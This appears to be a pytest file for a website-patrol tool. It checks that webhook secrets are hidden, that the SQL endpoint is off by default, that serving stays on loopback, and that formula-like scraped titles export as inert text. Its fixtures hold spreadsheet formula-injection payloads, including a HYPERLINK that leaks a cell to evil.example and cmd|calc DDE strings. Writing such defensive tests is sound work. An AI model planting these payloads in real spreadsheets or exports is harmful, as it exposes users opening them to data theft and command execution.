"""The web view and the spreadsheets (issue 19): no secret shown, no SQL box unless asked, loopback unless
`--public`, and scraped text that looks like a formula stays text in every CSV and XLSX.

A hostile portal on 127.0.0.1 lists entries titled as formulas (``=HYPERLINK``, ``+cmd|``, ``-``, ``@``,
tab, CR); the config names a unit with robot webhooks carrying keys. One real crawl into real SQLite, then the
real `patrol serve`, `patrol stats --xlsx` and `patrol notify --dry-run` on it.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import AS_OF, ROOT, run_cli
from notices_fixtures import free_port
from openpyxl import load_workbook
from security_servers import Server, page

from core.cells import formula_like, inert
from storage.schema import MIGRATIONS
from storage.store import Store

SITE = "清河市统计局"
COLUMN = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
KEYS = ("access_token=SECRETDINGTALK0001", "key=SECRETWECOM0002", "SECRETFEISHU0003abcdef")
WEBHOOKS = [f"https://oapi.dingtalk.com/robot/send?{KEYS[0]}", f"https://qyapi.weixin.qq.com/cgi-bin/webhook/send?{KEYS[1]}",
            f"https://open.feishu.cn/open-apis/bot/v2/hook/{KEYS[2]}"]


def _secrets() -> list[str]:
    return ["SECRETDINGTALK0001", "SECRETWECOM0002", "SECRETFEISHU0003abcdef", "MAILPASSWORD-SECRET"]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    tmp = tmp_path_factory.mktemp("web")
    rows = "".join(f"<li><a href='/a/{i}.html'>{t}</a><span class='date'>2025-0{i + 1}-01</span></li>"
                   for i, t in enumerate(TITLES))
    portal = Server({"/": (200, {}, page(SITE, "<a href='/list/'>列表</a><div>网站标识码3209000021</div>")),
                     "/list/": (200, {}, page("列表", f"<div class='list'><ul>{rows}</ul></div>"))})
    hooks = ", ".join(json.dumps(w) for w in WEBHOOKS)
    (tmp / "sites.toml").write_text(f"""database = "{tmp / 'patrol.db'}"
[crawl]
timeout = 3
retries = 0
check_links = false
fetch_articles = false

[mail]
host = "127.0.0.1"
port = {free_port()}
sender = "gkb@qinghe.example"
password_env = "PATROL_TEST_MAIL_PASSWORD"

[notify]
out_dir = "{tmp / 'out'}"

[[units]]
name = "{SITE}"
email = "tj@qinghe.example"
webhooks = [{hooks}]

[[sites]]
name = "{SITE}"
url = "{portal.url}/"
unit = "{SITE}"
kind = "department"

[[sites.columns]]
name = {json.dumps(COLUMN)}
url = "{portal.url}/list/"
category = "dynamic"
""", encoding="utf-8")
    try:
        result = run_cli("run", "--config", str(tmp / "sites.toml"), "--as-of", AS_OF.isoformat(), "--quiet")
        assert result.code in (0, 1), result.stderr
    finally:
        portal.stop()
    yield tmp / "patrol.db"


def _serve(db: Path, *args: str) -> tuple[subprocess.Popen, str]:
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "patrol", "serve", "--db", str(db), "--port", str(port), *args],
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    base = f"http://127.0.0.1:{port}"
    for _ in range(150):
        try:
            urllib.request.urlopen(base + "/-/versions.json", timeout=2).read()
            return proc, base
        except OSError:
            if proc.poll() is not None:
                raise AssertionError(proc.stderr.read() if proc.stderr else "serve exited") from None
            time.sleep(0.1)
    proc.kill()
    raise AssertionError("patrol serve did not start")


def _stop(proc: subprocess.Popen) -> str:
    proc.terminate()
    _, err = proc.communicate(timeout=20)
    return err


def _get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=20) as response:
            return response.status, response.read().decode("utf-8")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", errors="replace")


@pytest.fixture(scope="module")
def served(db: Path) -> Iterator[str]:
    proc, base = _serve(db)
    try:
        yield base
    finally:
        _stop(proc)


def test_the_crawl_stored_formula_titles(db: Path) -> None:
    con = sqlite3.connect(db)
    try:
        titles = {r[0] for r in con.execute("SELECT title FROM entries")}
    finally:
        con.close()
    assert sum(formula_like(t) for t in titles) >= 4, titles  # the attack is in the data


def test_no_secret_is_in_the_database_or_the_view(db: Path, served: str) -> None:
    con = sqlite3.connect(db)
    try:
        dump = "\n".join(con.iterdump())
    finally:
        con.close()
    status, units = _get(served + "/patrol/units.json?_shape=array")
    assert status == 200 and json.loads(units)[0]["name"] == SITE
    row_status, row = _get(served + f"/patrol/units/{urllib.parse.quote(SITE)}.json")
    for secret in _secrets():
        assert secret not in dump and secret not in units and secret not in row, secret
    hooks = json.loads(json.loads(units)[0]["webhooks"])
    assert len(hooks) == 3 and all("#" in h and "?" not in h for h in hooks)  # each robot still named


def test_the_sql_box_is_off_but_views_and_exports_work(served: str) -> None:
    status, _ = _get(served + "/patrol.json?sql=" + urllib.parse.quote("select fts3_tokenizer('simple')"))
    assert status == 403
    status, _ = _get(served + "/patrol.json?sql=" + urllib.parse.quote("select * from units"))
    assert status == 403
    status, body = _get(served + f"/patrol/columns_status.csv?as_of={AS_OF.isoformat()}")
    assert status == 200 and "栏目" in body
    status, _ = _get(served + "/patrol/open_findings.json")
    assert status == 200


def test_allow_sql_turns_the_box_on(db: Path) -> None:
    proc, base = _serve(db, "--allow-sql")
    try:
        status, body = _get(base + "/patrol.json?sql=select+41%2B1+as+n&_shape=array")
    finally:
        _stop(proc)
    assert status == 200 and json.loads(body) == [{"n": 42}]


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_exports_carry_no_live_formula(served: str) -> None:
    for path in ("/patrol/entries.csv?_size=max", f"/patrol/columns_status.csv?as_of={AS_OF.isoformat()}",
                 f"/patrol/open_findings.csv?as_of={AS_OF.isoformat()}", "/patrol/entries.csv?_stream=on"):
        status, body = _get(served + path)
        assert status == 200, path
        rows = _csv(body)
        assert rows and [c for row in rows[1:] for c in row if formula_like(c)] == [], path
    entries = _csv(_get(served + "/patrol/entries.csv?_size=max")[1])
    titles = [row[entries[0].index("title")] for row in entries[1:]]
    assert inert(TITLES[0]) in titles and "'" + TITLES[1] in titles  # the text kept, behind a '
    status, body = _get(served + "/patrol/runs.csv")
    assert status == 200 and all(not c.startswith("'") for row in _csv(body) for c in row)  # numbers untouched


def test_stats_xlsx_cells_are_text(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "stats.xlsx"
    result = run_cli("stats", "--year", "2025", "--db", str(db), "--xlsx", str(out))
    assert result.code == 0, result.stderr
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = [c for c in cells if formula_like(c.value)]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)


def test_notice_xlsx_cells_are_text(db: Path, tmp_path: Path) -> None:
    config = db.parent / "sites.toml"
    result = run_cli("notify", "--config", str(config), "--as-of", AS_OF.isoformat(), "--dry-run",
                     "--out", str(tmp_path))
    assert result.code in (0, 1), result.stderr
    books = list(tmp_path.rglob("*.xlsx"))
    assert books
    cells = [c for b in books for sheet in load_workbook(b).worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = [c for c in cells if formula_like(c.value)]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)


def test_serve_refuses_a_public_host_without_public() -> None:
    result = run_cli("serve", "--db", "nowhere.db", "--host", "0.0.0.0")
    assert result.code == 2 and "--public" in result.stderr and "不是本机地址" in result.stderr


def test_serve_public_warns_and_tells_the_host(db: Path) -> None:
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "patrol", "serve", "--db", str(db), "--port", str(port),
                             "--host", "0.0.0.0", "--public"], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(150):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/-/versions.json", timeout=2).read()
                break
            except OSError:
                time.sleep(0.1)
    finally:
        err = _stop(proc)
    assert "警告" in err and "0.0.0.0" in err and "本机所有网络地址" in err


def test_a_version_9_database_loses_its_webhook_keys(tmp_path: Path) -> None:
    path = tmp_path / "v9.db"
    conn = sqlite3.connect(path)
    for step in MIGRATIONS[:9]:
        conn.execute("BEGIN")
        step(conn)
        conn.execute("COMMIT")
    conn.execute("PRAGMA user_version = 9")
    conn.execute("INSERT INTO units (name, webhooks) VALUES ('旧单位', ?)", (json.dumps(WEBHOOKS),))
    conn.commit()
    conn.close()
    with Store(path) as store:
        hooks = store.conn.execute("SELECT webhooks FROM units").fetchone()[0]
    assert all(s not in hooks for s in _secrets()) and hooks.count("#") == 3
